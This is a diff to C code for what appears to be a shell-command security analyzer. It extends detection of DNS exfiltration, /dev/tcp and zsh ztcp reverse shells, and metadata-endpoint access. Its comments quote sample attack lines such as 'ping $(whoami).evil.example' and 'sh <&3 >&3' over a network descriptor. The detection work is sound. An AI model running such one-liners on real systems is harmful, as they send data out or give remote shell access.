@@ -9,6 +9,7 @@
  * words are not paths, hosts or commands.
  */
 #include <string.h>
+#include <strings.h>
 
 #include "shell/carriers.h"
 #include "shell/facts.h"
@@ -49,9 +50,18 @@ sh_where sh_where_enter(sh_ctx *c, unsigned scope, sh_where w, pe_str dir, unsig
     return r;
 }
 
+/* The terminal and the null device: what goes there is not a file. */
+static int dev_sink(pe_str w)
+{
+    static const char *const sinks[] = {"/dev/null", "/dev/stdout", "/dev/stderr",  "/dev/tty",
+                                        "/dev/zero", "/dev/fd/1",   "/dev/fd/2",    "/dev/stdin",
+                                        "/dev/fd/0", "/dev/random", "/dev/urandom", NULL};
+    return sh_in_list(sinks, w.s, w.len);
+}
+
 void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wflags, unsigned role)
 {
-    if (!word.len || !role)
+    if (!word.len || !role || dev_sink(word))
         return;
     if ((role & PE_SHELL_P_UPLOAD) && sh_eq(word, "-")) {
         c->flags |= PE_SHELL_UPLOAD; /* what comes in on stdin is sent */
@@ -91,6 +101,38 @@ static void add_host(sh_ctx *c, const pe_host *h)
         sh_strs_add(c, &c->hosts, h->v4, 0);
 }
 
+/* The parts of a host that an expansion leaves known: what comes before
+ * the first one (http://169.254.170.2$URI reaches 169.254.170.2) and the
+ * domain after the last one ($(id).t.evil.example asks evil.example's
+ * servers). */
+static void known_host_parts(sh_ctx *c, pe_str h)
+{
+    size_t first = h.len, last = 0;
+    for (size_t i = 0; i < h.len; i++)
+        if (strchr("$`)}", h.s[i])) {
+            first = i < first ? i : first;
+            last = i + 1;
+        }
+    if (first == h.len)
+        return;
+    pe_str parts[2] = {{h.s, first}, {h.s + last, h.len - last}};
+    for (int k = 0; k < 2; k++) {
+        pe_str p = parts[k];
+        while (p.len && (p.s[0] == '.' || p.s[0] == '-'))
+            p.s++, p.len--;
+        while (p.len && (p.s[p.len - 1] == '.' || p.s[p.len - 1] == '-'))
+            p.len--;
+        if (!p.len || !memchr(p.s, '.', p.len))
+            continue; /* not a whole name */
+        pe_host host;
+        if (pe_host_normalize(&host, p.s, p.len, c->arena) < 0) {
+            sh_nomem(c);
+            return;
+        }
+        add_host(c, &host);
+    }
+}
+
 /* A name made by a substitution is a lookup that carries data out (DNS
  * exfiltration: ping $(whoami).evil.example). */
 int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
@@ -109,7 +151,40 @@ int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int sty
         c->flags |= PE_SHELL_DNS_EXFIL;
     sh_strs_add(c, &c->urls, t, 0);
     add_host(c, &u.host);
+    if (wflags & PE_SHELL_W_EXPANDS)
+        known_host_parts(c, *h);
     return (int)u.host.kind;
+}
+
+/* A DNS record type (dig x TXT, host -t is an option). */
+static int dns_type(pe_str w)
+{
+    static const char *const types[] = {"A",    "AAAA", "ANY",  "CAA",  "CNAME", "DNSKEY", "DS",
+                                        "MX",   "NS",   "PTR",  "SOA",  "SRV",   "TXT",    "HTTPS",
+                                        "SVCB", "AXFR", "IXFR", "NULL", NULL};
+    for (const char *const *t = types; *t; t++)
+        if (w.len == strlen(*t) && strncasecmp(w.s, *t, w.len) == 0)
+            return 1;
+    return 0;
+}
+
+/* The names a lookup or connection command is given: the first operand
+ * (ping host, telnet host port), or every name of a DNS tool (dig @server
+ * name TXT, host name server, nslookup name server), where a name made by
+ * a substitution carries data out. */
+static void lookup_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, const sh_walk *wk)
+{
+    size_t n = (k->flags & K_DNS) && strcmp(k->name, "ping") != 0 ? wk->nops : (wk->nops ? 1 : 0);
+    for (size_t i = 0; i < n; i++) {
+        pe_str w = sc->pub.argv[wk->ops[i]];
+        if ((k->flags & K_DNS) && w.len && w.s[0] == '+')
+            continue; /* dig +short */
+        if (w.len > 1 && w.s[0] == '@')
+            w.s++, w.len--;
+        else if ((k->flags & K_DNS) && dns_type(w))
+            continue;
+        sh_net_word(c, sc->scope, w, sc->pub.argf[wk->ops[i]], PE_URL_SSH);
+    }
 }
 
 /* Whether a word looks like a URL (scheme://). */
@@ -124,13 +199,44 @@ static int is_url(pe_str w)
 
 /* ---- redirections -------------------------------------------------------- */
 
+/* A redirection making a descriptor a copy of a network connection: an
+ * fd opened to /dev/tcp earlier on the line, or one kept in a variable
+ * after ztcp. */
+static int dup_of_net(const sh_ctx *c, const pe_shell_redir *r)
+{
+    if (!sh_eq(r->op, "<&") && !sh_eq(r->op, ">&"))
+        return 0;
+    pe_str t = r->target;
+    if (t.len && t.s[0] == '$')
+        return c->net_fd_var;
+    long fd = 0;
+    for (size_t i = 0; i < t.len; i++) {
+        if (t.s[i] < '0' || t.s[i] > '9' || fd > 1000000)
+            return 0;
+        fd = fd * 10 + (t.s[i] - '0');
+    }
+    for (size_t i = 0; t.len && i < c->nnet_fds; i++)
+        if (c->net_fds[i] == fd)
+            return 1;
+    return 0;
+}
+
 static void redir_facts(sh_ctx *c, const sh_cmd *sc)
 {
     const pe_shell_cmd *k = &sc->pub;
     for (size_t j = 0; j < k->nredirs; j++) {
         const pe_shell_redir *r = &k->redirs[j];
-        if (!(r->flags & PE_SHELL_R_FILE))
+        if (!(r->flags & PE_SHELL_R_FILE)) {
+            /* sh <&3 >&3 with 3 a connection: a shell driven from afar */
+            if ((k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC)) && dup_of_net(c, r))
+                c->flags |= PE_SHELL_REVERSE_SHELL;
             continue;
+        }
+        if (dup_of_net(c, r)) { /* >&$REPLY after ztcp */
+            if (k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC))
+                c->flags |= PE_SHELL_REVERSE_SHELL;
+            continue;
+        }
         pe_dev_net dn;
         pe_str t;
         sh_expand(c, sc->scope, r->target, r->flags, &t);
@@ -141,6 +247,8 @@ static void redir_facts(sh_ctx *c, const sh_cmd *sc)
         }
         if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
             add_host(c, &dn.host);
+            if (r->fd >= 0 && (!k->argc || sh_eq(k->base, "exec")) && c->nnet_fds < 8)
+                c->net_fds[c->nnet_fds++] = r->fd; /* exec 3<>/dev/tcp/h/p */
             if (k->flags & PE_SHELL_C_INTERPRETER)
                 c->flags |= PE_SHELL_REVERSE_SHELL;
             else if ((r->flags & PE_SHELL_R_WRITE) && r->op.s[0] != '<' &&
@@ -213,6 +321,25 @@ static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, p
     case OR_CONFIG:
         sh_carry_setting(c, sc, v, vf);
         break;
+    case OR_RESOLVE: { /* the address after the second ':' (brackets for IPv6) */
+        size_t colons = 0, i = 0;
+        for (; i < v.len && colons < 2; i++)
+            colons += v.s[i] == ':';
+        pe_str addr = {v.s + i, v.len - i};
+        const char *close = addr.len && addr.s[0] == '[' ? memchr(addr.s, ']', addr.len) : NULL;
+        if (close) { /* [v6] */
+            addr.s++;
+            addr.len = (size_t)(close - addr.s);
+        }
+        for (size_t e = 0; !close && e < addr.len; e++)
+            if (addr.s[e] == ',' || addr.s[e] == ':') {
+                addr.len = e; /* --connect-to H:P:H2:P2, --resolve H:P:A1,A2 */
+                break;
+            }
+        if (addr.len)
+            sh_net_word(c, sc->scope, addr, vf, PE_URL_SSH);
+        break;
+    }
     default:
         sh_path_in(c, sc->scope, wk->w, v, vf, role_bits(r));
     }
@@ -292,6 +419,18 @@ static size_t short_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_wal
     return 0;
 }
 
+/* chmod -x f: a mode that looks like an option (chmod's own are -R -v -c
+ * -f and long ones). */
+static int chmod_mode(const sh_know *k, pe_str a)
+{
+    if (strcmp(k->name, "chmod") != 0 || a.len < 2 || a.s[1] == '-')
+        return 0;
+    for (size_t i = 1; i < a.len; i++)
+        if (!strchr("rwxXst", a.s[i]))
+            return 0;
+    return 1;
+}
+
 /* Walks argv[from..] of a command against its row. */
 static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t from)
 {
@@ -303,7 +442,7 @@ static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *w
             opts_done = 1;
             continue;
         }
-        if (!opts_done && a.len > 1 && a.s[0] == '-') {
+        if (!opts_done && a.len > 1 && a.s[0] == '-' && !chmod_mode(k, a)) {
             j += a.s[1] == '-' ? long_option(c, sc, k, wk, j) : short_option(c, sc, k, wk, j);
             continue;
         }
@@ -493,9 +632,14 @@ void sh_facts(sh_ctx *c, size_t idx)
         if (!(k->flags & K_SPECIAL) || !sh_special(c, idx, k, &wk))
             sh_operand_roles(c, &c->cmds[idx], k, &wk, k->operands);
         sc = &c->cmds[idx];
-        /* a name (or @server) to look up or connect to: the first operand */
-        if (k->operands == OP_URL && !(k->flags & K_SPECIAL) && wk.nops)
-            sh_net_word(c, sc->scope, sc->pub.argv[wk.ops[0]], sc->pub.argf[wk.ops[0]], PE_URL_SSH);
+        if (k->operands == OP_URL && !(k->flags & K_SPECIAL))
+            lookup_words(c, sc, k, &wk);
+        if (strcmp(k->name, "ztcp") == 0) { /* zsh: the connection's fd is in $REPLY */
+            c->net_fd_var = 1;
+            for (size_t j = 1; j < sc->pub.argc; j++)
+                if (sh_eq(sc->pub.argv[j], "-l"))
+                    c->flags |= PE_SHELL_LISTEN;
+        }
     } else {
         for (size_t j = 1; j < sc->pub.argc; j++)
             wk.ops[wk.nops < 64 ? wk.nops++ : 63] = j;
